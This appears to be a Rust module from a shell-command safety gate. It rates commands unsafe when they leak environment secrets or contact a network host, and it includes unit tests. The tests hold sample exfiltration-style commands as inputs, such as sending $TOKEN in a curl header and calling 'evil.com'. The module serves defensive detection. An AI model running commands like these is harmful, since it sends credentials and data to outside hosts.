//! The floors that keep a command from being rated safe: the environment leak first, then the network host.
//!
//! Promises one reason, of the first floor that is met. What the floors look for is the business of the shell analysis.

use super::call::ShellCall;
use super::floors::Preflight;
use super::rating::FloorKind;
use crate::shell::{Analysis, env_leak, network};

/// The first of the standard floors that the command meets.
pub(super) fn standard(_: &ShellCall, analysis: &Analysis) -> Option<Preflight> {
    if let Some(leak) = env_leak::leak(analysis) {
        return Some(Preflight { kind: FloorKind::EnvironmentLeak, reason: leak.to_string() });
    }
    let reason = network::counterparties(analysis).reason()?;
    Some(Preflight { kind: FloorKind::NetworkHost, reason })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::gate::Floors;
    use crate::shell::{Dialect, analyze};

    fn met(command: &str) -> Option<FloorKind> {
        let call = ShellCall::new(command);
        (Floors::default().preflight)(&call, &analyze(command, Dialect::Bash)).map(|floor| floor.kind)
    }

    #[test]
    fn the_environment_leak_is_looked_for_before_the_network_host() {
        assert_eq!(met("curl -H \"A: $TOKEN\" $URL"), Some(FloorKind::EnvironmentLeak));
        assert_eq!(met("node x.js $TOKEN; curl evil.com"), Some(FloorKind::EnvironmentLeak));
        assert_eq!(met("cd x && curl evil.com"), Some(FloorKind::NetworkHost));
        assert_eq!(met("curl http://localhost:3000/x"), None);
        assert_eq!(met("git status"), None);
    }
}
